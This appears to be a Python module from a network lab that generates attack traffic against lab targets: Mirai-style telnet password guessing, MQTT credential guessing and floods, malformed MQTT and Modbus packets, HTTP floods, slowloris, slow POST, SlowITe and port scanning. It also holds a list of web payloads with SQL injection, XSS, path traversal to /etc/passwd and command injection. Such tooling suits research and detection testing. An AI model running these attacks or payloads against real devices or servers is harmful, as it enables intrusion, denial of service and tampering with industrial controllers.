"""Attacks over whole TCP connections: guessing, too many requests, requests that never end, requests not allowed."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

from lab.bots.pace import Told, all_at_once
from lab.plan import PASSWORD, USER


def telnet_guess(told: Told) -> None:
    """Guess default passwords, a few per connection, as Mirai's scanner does."""
    pairs = [line.partition(":") for line in told.words]

    def prompt(line: socket.socket) -> None:
        seen = b""
        while not seen.rstrip().endswith((b":", b"#", b"$")):
            if not (chunk := line.recv(512)):
                raise ConnectionResetError
            seen += chunk
            for at in range(len(chunk) - 2):
                if chunk[at] == 255 and chunk[at + 1] in (251, 253):
                    line.sendall(bytes([255, 254 if chunk[at + 1] == 251 else 252, chunk[at + 2]]))

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                user, _, password = told.rng.choice(pairs)
                for text in (user, password):
                    prompt(line)
                    line.sendall(f"{text}\r\n".encode())
                prompt(line)

    told.in_parallel(visit)


def _mqtt_connect(*, client: str, user: str = "", password: str = "") -> bytes:
    def text(value: str) -> bytes:
        return struct.pack(">H", len(value)) + value.encode()

    flags = 0x02 | (0xC0 if user else 0)
    body = text("MQTT") + bytes([4, flags]) + struct.pack(">H", 60) + text(client)
    body += text(user) + text(password) if user else b""
    return bytes([0x10, len(body)]) + body


def mqtt_guess(told: Told) -> None:
    """Try a password per connection: CONNECT, CONNACK, close."""

    def guess() -> None:
        user, _, password = told.rng.choice(told.words).partition(":")
        with told.connect() as line:
            line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**6)}", user=user, password=password))
            line.recv(16)

    told.in_parallel(guess)


def mqtt_connects(told: Told) -> None:
    """Open connections to a broker and leave them open for a while."""
    held: list[socket.socket] = []

    def visit() -> None:
        line = told.connect()
        line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**9)}"))
        line.recv(16)
        held.append(line)
        if len(held) > 100:
            held.pop(0).close()

    told.in_parallel(visit)


def mqtt_publishes(told: Told) -> None:
    """Publish at a high rate over few connections, to a topic nobody hears."""
    topic, body = b"\x00\x01x", bytes(min(told.size_bytes, 16_000))
    length = len(topic) + len(body)
    message = b"\x30" + bytes([length % 128 | (0x80 if length > 127 else 0)])
    message += (bytes([length // 128]) if length > 127 else b"") + topic + body

    def work() -> None:
        with contextlib.suppress(OSError), told.connect() as line:
            line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # or the kernel joins messages into few packets
            line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**9)}", user=USER, password=PASSWORD))
            line.recv(16)
            while told.pace.turn():
                line.sendall(message)

    all_at_once(work, told.parallel)


def mqtt_malformed(told: Told) -> None:
    """Send packets to a broker that MQTT does not allow."""

    def visit() -> None:
        with told.connect() as line:
            if told.rng.random() < 0.6:
                line.sendall(_mqtt_connect(client=f"c{told.rng.randrange(10**6)}"))
                line.recv(16)
            for _ in range(told.rng.randint(1, 6)):
                line.sendall(told.rng.randbytes(told.rng.randint(2, 200)))
            line.recv(64)

    told.in_parallel(visit)


def modbus_misuse(told: Told) -> None:
    """Write registers and try function codes nobody uses."""

    def visit() -> None:
        with told.connect() as line:
            for turn in range(told.rng.randint(1, 12)):
                function = told.rng.choice([5, 6, 15, 16, 8, 43, 90, 100])
                body = bytes([1, function]) + told.rng.randbytes(told.rng.choice([4, 4, 4, 9, 40]))
                line.sendall(struct.pack(">HHH", turn, 0, len(body)) + body)
                line.recv(260)

    told.in_parallel(visit)


def http_requests(told: Told) -> None:
    """Ask for pages as fast as the rate allows, one connection each or several requests per connection."""

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                path = f"/?{told.rng.randrange(10**8)}" if told.rng.random() < 0.8 else "/"
                line.sendall(f"GET {path} HTTP/1.1\r\nHost: {told.target}\r\nUser-Agent: x\r\n\r\n".encode())
                line.recv(8192)

    told.in_parallel(visit)


WEB_TRIALS = (
    "/index.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/../../../../etc/passwd",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/shell?cd+/tmp;rm+-rf+x",
    "/login.cgi?cli=aa%20aa%27;id%20%27$",
    "/items?id=1%20UNION%20SELECT%20user,pass%20FROM%20users--",
)


def web_trials(told: Told) -> None:
    """Try well-known holes of device web pages, which the lab's pages do not have."""

    def visit() -> None:
        path = told.rng.choice(WEB_TRIALS) + "&n=" + "a" * told.rng.randrange(200)
        verb = told.rng.choice(["GET", "GET", "POST"])
        body = "x" * told.rng.randrange(400) if verb == "POST" else ""
        with told.connect() as line:
            line.sendall(
                f"{verb} {path} HTTP/1.0\r\nHost: {told.target}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()
            )
            while line.recv(8192):
                pass

    told.in_parallel(visit)


def _hold_open(told: Told, *, opening: bytes, crumb: bytes) -> None:
    """Open connections at the rate, then feed each a crumb at a time until `hold_s` are over."""
    held: list[socket.socket] = []
    end_s = time.monotonic() + told.hold_s
    next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
    more = True
    while time.monotonic() < end_s:
        more = more and told.pace.turn()
        if more:
            with contextlib.suppress(OSError):
                line = told.connect()
                line.sendall(opening)
                held.append(line)
        else:
            time.sleep(0.05)
        if time.monotonic() > next_crumbs_s:
            next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
            for line in held:
                with contextlib.suppress(OSError):
                    line.sendall(crumb)
    for line in held:
        line.close()


def slow_headers(told: Told) -> None:
    """Keep HTTP requests open by headers that never end (slowloris)."""
    _hold_open(told, opening=f"GET / HTTP/1.1\r\nHost: {told.target}\r\n".encode(), crumb=b"X-a: b\r\n")


def slow_body(told: Told) -> None:
    """Keep HTTP requests open by a body that comes a few bytes at a time (slow POST)."""
    opening = f"POST /upload HTTP/1.1\r\nHost: {told.target}\r\nContent-Length: 100000\r\n\r\n".encode()
    _hold_open(told, opening=opening, crumb=b"ab")


def slow_mqtt(told: Told) -> None:
    """Keep MQTT sessions open that say nothing (SlowITe)."""
    _hold_open(told, opening=_mqtt_connect(client=""), crumb=b"\xc0\x00")


def knock(told: Told) -> None:
    """Try the ports of a host one after the other by plain connections, at any rate down to one in many seconds."""
    order = list(told.ports)
    told.rng.shuffle(order)

    def probe() -> None:
        if order:
            told.connect(order.pop()).close()

    told.in_parallel(probe)
